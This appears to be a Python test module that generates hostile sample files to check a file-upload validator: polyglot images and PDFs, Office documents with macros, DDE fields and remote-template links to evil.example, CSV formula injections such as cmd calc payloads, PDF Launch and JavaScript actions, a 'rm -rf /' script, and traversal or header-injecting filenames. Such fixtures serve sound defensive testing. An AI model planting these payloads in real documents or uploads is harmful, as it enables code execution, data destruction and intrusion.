"""Polyglots, macros, actions and names: files that are something else, do something, or are called something."""

from collections.abc import Iterator

from chalicelib.domain.files import kinds
from tests.files import samples
from tests.files.archives import OPEN, Hostile, docx_entries, named, office, raw_archive
from tests.files.samples import office_parts, open_document_parts, pdf, relationships, zipped

POLYGLOTS = (
    ("GIF and page", b"GIF89a/*<script>alert(1)</script>*/=1;"),
    ("page", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("page after blanks", b"\n\n   <html><body onload=alert(1)>"),
    ("picture that runs", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("svg", b"<svg onload=alert(1)>"),
    ("program for Windows", b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"),
    ("program for Linux", b"\x7fELF\x02\x01\x01" + bytes(100)),
    ("old document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    ("shell script", b"#!/bin/sh\nrm -rf /\n\x00"),
)  # fmt: skip


def polyglots() -> Iterator[Hostile]:
    """Yield them."""
    for name, data in POLYGLOTS:
        for media_type in (kinds.PDF, kinds.PNG, kinds.DOCX):
            yield Hostile(f"{name} called {samples.SUFFIX[media_type]}", data, media_type, named(media_type))
        if b"<" in data or b"\x00" in data:
            yield Hostile(f"{name} called csv", data, kinds.CSV, "file.csv")
    archive = zipped({"evil.html": b"<script>1</script>"})
    document = zipped(office_parts(kinds.DOCX))
    yield Hostile("a PDF with an archive behind it", pdf() + archive, kinds.PDF, "file.pdf")
    yield Hostile("a PDF with an archive in it", pdf(samples.stream(archive, packed=False)), kinds.PDF, "file.pdf")
    yield Hostile(
        "an archive that begins as a PDF",
        raw_archive((b"%PDF-1.7", b"%PDF-1.7"), *docx_entries(), method=0),
        kinds.DOCX,
        "file.docx",
    )
    yield Hostile("a PDF after something else", b"GIF89a" + pdf(), kinds.PDF, "file.pdf")
    yield Hostile(
        "a document with something before it", raw_archive(*docx_entries(), before=b"MZ"), kinds.DOCX, "file.docx"
    )
    yield Hostile("a document with something behind it", document + b"<script>1</script>", kinds.DOCX, "file.docx")
    yield Hostile("a document with an archive's comment", document[:-2] + b"\x05\x00hello", kinds.DOCX, "file.docx")
    yield Hostile("a picture with an archive behind it", samples.png(after=archive), kinds.PNG, "file.png")
    yield Hostile(
        "a picture with an archive in it", samples.png(samples.chunk(b"juNk", archive)), kinds.PNG, "file.png"
    )
    yield Hostile("a picture with a page behind it", samples.png(after=b"<script>1</script>"), kinds.PNG, "file.png")
    yield Hostile(
        "a picture with a page in it",
        samples.png(samples.chunk(b"tEXt", b"a\x00<script>1</script>")),
        kinds.PNG,
        "file.png",
    )
    yield Hostile("a photograph with an archive behind it", samples.jpeg(after=archive), kinds.JPEG, "file.jpg")
    yield Hostile(
        "a photograph with a page in its comment",
        samples.jpeg(samples.segment(0xFE, b"<html><script>")),
        kinds.JPEG,
        "file.jpg",
    )
    for ours, other in (
        (kinds.DOCX, kinds.XLSX),
        (kinds.XLSX, kinds.DOCX),
        (kinds.ODT, kinds.ODS),
        (kinds.PPTX, kinds.DOCX),
    ):
        whole = samples.honest()[ours]
        yield Hostile(f"{samples.SUFFIX[ours]} called {samples.SUFFIX[other]}", whole, other, named(other))
        yield Hostile(f"{samples.SUFFIX[ours]} with another extension", whole, ours, "file.pdf")


def macros() -> Iterator[Hostile]:
    """Yield them."""
    for media_type, folder in ((kinds.DOCX, "word"), (kinds.XLSX, "xl"), (kinds.PPTX, "ppt")):
        yield office("macros", media_type, **{f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
        yield office(
            "macros under another name",
            media_type,
            **{f"{folder}/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        )
        enabled = samples.content_types(media_type, "application/vnd.ms-word.document.macroEnabled.main+xml")
        yield office("a macro document renamed", media_type, **{"[Content_Types].xml": enabled})
        yield office("an OLE object", media_type, **{f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
        yield office("a program", media_type, **{f"{folder}/media/setup.exe": b"MZ\x90"})
        yield office("a control", media_type, **{f"{folder}/activeX/activeX1.xml": b"<ax/>"})
        yield office("buttons that run", media_type, **{"customUI/customUI14.xml": b"<customUI/>"})
        rels = f"{folder}/_rels/settings.xml.rels"
        for kind, target in (
            ("attachedTemplate", "https://evil.example/t.dotm"),
            ("image", "\\\\evil\\share\\a.png"),
            ("oleObject", "https://evil.example/a"),
            ("frame", "https://evil.example/"),
            ("hyperlink", "file:///c:/evil.exe"),
            ("hyperlink", "javascript:alert(1)"),
        ):
            yield office(f"{kind} at {target[:10]}", media_type, **{rels: relationships((kind, target, True))})
    for field in (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "DDE excel a b",
        "INCLUDETEXT https://evil.example/a",
        "INCLUDEPICTURE \\\\\\\\evil\\\\a.png",
    ):
        halves = f"<w:p><w:r><w:instrText>{field[:2]}</w:instrText></w:r><w:r><w:instrText>{field[2:]}</w:instrText></w:r></w:p>"
        yield office(f"the field {field[:12]} in halves", kinds.DOCX, **{"word/document.xml": samples.document(halves)})
        simple = samples.document(f'<w:p><w:fldSimple w:instr=" {field} "/></w:p>')
        yield office(f"the simple field {field[:12]}", kinds.DOCX, **{"word/header1.xml": simple})
    yield office(
        "a DDE link", kinds.XLSX, **{"xl/links/link1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    )
    yield office("linked workbooks", kinds.XLSX, **{"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    yield office("a data connection", kinds.XLSX, **{"xl/connections.xml": b"<connections/>"})
    yield office("a macro sheet", kinds.XLSX, **{"xl/macrosheets/sheet1.xml": b"<xm/>"})
    for media_type in OPEN:
        for name, parts in (
            ("Basic/Standard/Module1.xml", b"<m/>"),
            ("Scripts/python/a.py", b"import os"),
            ("Object 1", b"\xd0\xcf\x11\xe0"),
            ("Database/database.properties", b"x"),
            ("ObjectReplacements/Object 1", b"x"),
        ):
            yield Hostile(
                f"{name} in {samples.SUFFIX[media_type]}",
                zipped(open_document_parts(media_type) | {name: parts}),
                media_type,
                named(media_type),
            )
        for body in (
            '<script:event-listener script:event-name="dom:load"/>',
            '<office:dde-source office:dde-application="cmd"/>',
            '<draw:image xlink:href="https://evil.example/a.png"/>',
            "<draw:plugin/>",
            '<text:a xlink:href="javascript:alert(1)">x</text:a>',
        ):
            yield Hostile(
                f"{body[:24]} in {samples.SUFFIX[media_type]}",
                zipped(open_document_parts(media_type, body)),
                media_type,
                named(media_type),
            )
    for text in ("=cmd|' /C calc'!A0", "a,=DDE|server!x", "+cmd|'/c'!A1", "@SUM|a!b"):
        yield Hostile(f"the cell {text}", f"x\r\n{text}\r\n".encode(), kinds.CSV, "file.csv")


ACTIONS = (
    b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", b"<< /S /J#61vaScript /JS 9 0 R >>", b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /S /L#61unch /Win << /F (cmd.exe) >> >>", b"<< /Names << /EmbeddedFiles 9 0 R >> >>", b"<< /Type /EmbeddedFile >>",
    b"<< /Subtype /FileAttachment /FS 9 0 R >>", b"<< /AcroForm << /XFA 9 0 R >> >>", b"<< /S /SubmitForm /F (http://x) >>",
    b"<< /S /ImportData /F (x) >>", b"<< /S /GoToE /T << >> >>", b"<< /S /GoToR /F (\\\\\\\\evil\\\\a) >>", b"<< /Subtype /RichMedia >>",
    b"<< /S /Rendition >>", b"<< /AA << /O 9 0 R >> >>", b"<< /Encrypt 9 0 R >>", b"<< /OpenAction << /S /URI /URI (http://x) >> >>",
)  # fmt: skip


def actions() -> Iterator[Hostile]:
    """Yield them."""
    for action in ACTIONS:
        yield Hostile(f"the action {action.decode()}", pdf(action), kinds.PDF, "file.pdf")
        yield Hostile(
            f"packed, the action {action.decode()}", pdf(samples.object_stream(b"<< >>", action)), kinds.PDF, "file.pdf"
        )
    unreadable = samples.stream(b"20 0 <</S/JavaScript>>").replace(
        b"/Filter /FlateDecode", b"/Filter [/ASCIIHexDecode /FlateDecode] /N 1 /First 5"
    )
    yield Hostile("objects packed twice", pdf(unreadable), kinds.PDF, "file.pdf")
    yield Hostile(
        "an opening that is another object",
        pdf(b"<< /S /URI /URI (http://x) >>", catalog=b"/OpenAction 5 0 R"),
        kinds.PDF,
        "file.pdf",
    )
    yield Hostile("a PDF without an end", pdf(end=b""), kinds.PDF, "file.pdf")


NAMES = (
    "a\u202efdp.exe.docx", "a\r\nSet-Cookie: x=1.docx", "../../etc/passwd.docx", "..\\evil.docx", "x" * 1_000 + ".docx", "a\x00.docx",
    "a.docx\u200b", "con.docx", 'a";filename="b.docx', "a%2e%2e.docx", "a\u2028b.docx", " a.docx", "a.docx.", ".docx", "a", "C:a.docx",
    "a\ud800.docx", "文" * 90 + ".docx", "a\x1b[31m.docx", "a.exe", "a.docm", "a\u2066.docx",
)  # fmt: skip


def names() -> Iterator[Hostile]:
    """Yield them."""
    data = samples.honest()[kinds.DOCX]
    for name in NAMES:
        yield Hostile(f"the name {name[:24]!r}", data, kinds.DOCX, name)
